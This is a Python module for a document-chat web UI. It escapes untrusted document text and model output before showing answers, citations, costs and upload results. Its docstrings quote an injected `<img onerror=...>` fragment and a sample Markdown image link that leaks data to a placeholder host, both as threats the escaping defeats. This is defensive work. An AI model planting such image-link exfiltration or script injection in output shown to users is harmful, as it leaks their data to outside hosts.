"""Safe HTML and Markdown for everything the page shows.

Document text and model output are untrusted: a PDF can contain `<script>` and a model can
be talked into writing `<img onerror=...>`. Everything that reaches the browser passes
through `html.escape` here, so such text is shown as text. gr.HTML renders its value as
raw HTML, and the chatbot's own sanitiser would silently drop the tags rather than show
them, so escaping is done by us and the sanitiser stays on as a second layer. Markdown
adds one more way out: an image or link in a document would make the reader's browser
fetch from another host, so no Markdown link or image survives (`markdown`), and the
page's Content-Security-Policy (ui/security.py) blocks remote images and scripts anyway.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from html import escape

from ingest.report import Status
from rag.answer import AnswerRecord, Citation, Route
from ui.corpus import CollectionInfo
from ui.session import SessionState, SessionTotals, Turn
from ui.uploads import UploadResult

_LINK_TARGET = re.compile(r"\](?=[(\[:])")
ROUTE_LABELS = {
    "flash": "Flash",
    "pro": "escalated to Pro",
    "chosen": "your choice",
    "fallback": "Pro unavailable: Flash instead",
    "cached": "cached answer",
    "offline": "offline",
}

OFFLINE_BANNER = (
    "**Offline mode.** No Gemini API key is set, so answers quote the most relevant passages of "
    "your documents instead of being written by Gemini, and cost nothing. To enable Gemini, set "
    "`GEMINI_API_KEY` (or `GOOGLE_API_KEY`) in the environment and restart `python -m ui`."
)


def text(value: str) -> str:
    """Untrusted text made inert for HTML: `<`, `>` and `&` become entities."""
    return escape(value, quote=True)


def markdown(value: str) -> str:
    """Untrusted text made inert for Markdown (the chat, the upload summary): `<`, `>` and
    `&` escaped as by `text` (not quotes: no attribute is built from it), and no Markdown
    link or image left in it. A document line such as `![x](http://host/leak?d=...)`
    would otherwise load from that host with no click. Every
    link, image, reference and definition needs a `]` directly followed by `(`, `[` or `:`;
    a word joiner (invisible) goes between them, also inside code, where it changes nothing
    a reader sees. The text is then shown as written; a bare http(s) URL or e-mail address
    still becomes a link (GFM), which the browser follows only when clicked."""
    return _LINK_TARGET.sub("]\u2060", escape(value, quote=False))


def usd(amount: float) -> str:
    """Enough digits that a real cost never shows as zero: one Flash answer can cost $0.0003."""
    if 0 < amount < 0.001:
        return f"${amount:.6f}"
    return f"${amount:.4f}" if amount < 1 else f"${amount:,.2f}"


def route_label(route: Route) -> str:
    return ROUTE_LABELS.get(route.kind, route.kind)


def answer_footer(record: AnswerRecord) -> str:
    tokens = f"{record.usage.total_tokens:,} tokens" + (" when first answered" if record.cached else "")
    parts = [
        f"{markdown(record.route.model)} · {route_label(record.route)}",
        tokens,
        f"first token {record.ttft_s:.2f} s",
        usd(record.cost_usd),
    ]
    if record.cached:
        parts.append(f"saved {usd(record.saved_usd)}")
    return " · ".join(parts)


def turn_messages(turn: Turn) -> list[dict[str, str]]:
    """One turn as the chatbot's two messages (user, assistant), escaped."""
    body = markdown(turn.answer)
    if turn.status == "streaming" and not body:
        body = "_Searching your documents…_"
    elif turn.status == "stopped":
        body = f"{body}\n\n_(stopped)_"
    elif turn.status == "error":
        body = f"⚠️ {markdown(turn.error)}"
    elif turn.record is not None:
        body = f"{body}\n\n<sub>{answer_footer(turn.record)}</sub>"
    return [{"role": "user", "content": markdown(turn.question)}, {"role": "assistant", "content": body}]


def chat_messages(state: SessionState) -> list[dict[str, str]]:
    return [message for turn in state.shown for message in turn_messages(turn)]


def _where(citation: Citation) -> str:
    parts = [f"<b>{text(citation.source)}</b>"]
    if citation.page is not None:
        parts.append(f"page {citation.page}")
    if citation.heading:
        parts.append(text(citation.heading))
    return " · ".join(parts)


def citation_label(citation: Citation) -> str:
    page = f" · p. {citation.page}" if citation.page is not None else ""
    return f"[{citation.n}] {citation.source}{page}"


def passage_html(citation: Citation | None, cited: bool = True) -> str:
    if citation is None:
        return "<div class='gr-passage empty'>Pick a source to read its passage.</div>"
    mark = "" if cited else " <i>(shown to the model, not cited)</i>"
    return (
        f"<div class='gr-passage' data-n='{citation.n}'>"
        f"<div class='gr-where'>[{citation.n}] {_where(citation)}{mark}"
        f" <span class='gr-score'>score {citation.score:.3f}</span></div>"
        f"<blockquote>{text(citation.snippet)}</blockquote></div>"
    )


def sources_html(record: AnswerRecord | None) -> str:
    """Every passage the model saw for this answer; the ones it cited come first."""
    if record is None:
        return "<div class='gr-sources empty'>Sources of the selected answer appear here.</div>"
    cited = {c.n for c in record.citations}
    ordered = sorted(record.sources, key=lambda c: (c.n not in cited, c.n))
    rows = "".join(
        f"<li class='{'cited' if c.n in cited else 'uncited'}'>[{c.n}] {_where(c)}"
        f" <span class='gr-score'>{c.score:.3f}</span></li>"
        for c in ordered
    )
    return (
        f"<div class='gr-sources'><div class='gr-q'>Sources for: {text(record.question)}</div>"
        f"<ul>{rows or '<li>No passages were retrieved.</li>'}</ul></div>"
    )


def details_html(record: AnswerRecord | None) -> str:
    """Which model answered and why, and what the answer cost."""
    if record is None:
        return ""
    usage = record.usage
    rows = [
        ("Model", f"{text(record.route.model)} ({route_label(record.route)})"),
        ("Why", text(record.route.reason)),
        ("Tokens", f"{usage.prompt_tokens:,} in · {usage.output_tokens:,} out · {usage.total_tokens:,} total"),
        ("First token", f"{record.ttft_s:.2f} s (answer {record.latency_s:.2f} s)"),
        ("Cost", usd(record.cost_usd) + (f" · saved {usd(record.saved_usd)}" if record.cached else "")),
    ]
    cells = "".join(f"<tr><th>{k}</th><td>{v}</td></tr>" for k, v in rows)
    return f"<table class='gr-details' data-route='{text(record.route.kind)}'>{cells}</table>"


def totals_html(totals: SessionTotals) -> str:
    stats = [
        ("answers", "Answers", f"{totals.answers}"),
        ("tokens", "Tokens", f"{totals.tokens:,}"),
        ("cost", "Cost", usd(totals.cost_usd)),
        ("cache-hits", "Cache hits", f"{totals.cache_hits}"),
        ("saved", "Saved", usd(totals.saved_usd)),
        ("remaining", "Budget left", f"{usd(totals.remaining_usd)} / {usd(totals.budget_usd)}"),
    ]
    cells = "".join(
        f"<div class='gr-stat' data-stat='{key}'><span>{label}</span><b>{value}</b></div>"
        for key, label, value in stats
    )
    return f"<div class='gr-totals'>{cells}</div>"


def unavailable(what: str, reason: str) -> str:
    """One line in place of a panel that cannot be filled, so the rest of the page works on."""
    return f"<div class='gr-unavailable'>⚠️ {text(what)} unavailable: {text(reason)}</div>"


def corpus_html(collections: Sequence[CollectionInfo]) -> str:
    if not collections:
        return "<p>Nothing ingested yet: upload files below, or run <code>python -m ingest PATH</code>.</p>"
    rows = "".join(
        f"<tr data-collection='{text(c.name)}'><td>{text(c.name)}</td><td>{c.documents:,}</td>"
        f"<td>{c.chunks:,}</td><td>{text(c.last_ingest or '—')}</td></tr>"
        for c in collections
    )
    return (
        "<table class='gr-corpus'><tr><th>Collection</th><th>Documents</th><th>Chunks</th>"
        f"<th>Last ingest</th></tr>{rows}</table>"
    )


def upload_summary(result: UploadResult) -> str:
    """What happened to each uploaded file, in plain words."""
    lines: list[str] = []
    report = result.report
    if report is not None:
        done = [f for f in report.files if f.status in (Status.ADDED, Status.UPDATED, Status.UNCHANGED)]
        lines += [f"- ✅ {markdown(f.source)}: {f.status.value}, {f.chunks} chunks" for f in done]
        lines += [f"- ❌ {markdown(f.source)}: {markdown(f.reason)}" for f in report.of(Status.FAILED)]
        if report.stopped:
            lines.append(f"- ⚠️ {markdown(report.stopped)}")
        if report.cost_usd:
            lines.append(f"- Embedding cost: {usd(report.cost_usd)} ({report.tokens:,} tokens)")
    lines += [f"- ❌ {markdown(reason)}" for reason in result.rejected]
    collection = f" into collection **{markdown(report.collection)}**" if report else ""
    return f"Upload{collection}:\n\n" + "\n".join(lines) if lines else "Nothing was uploaded."
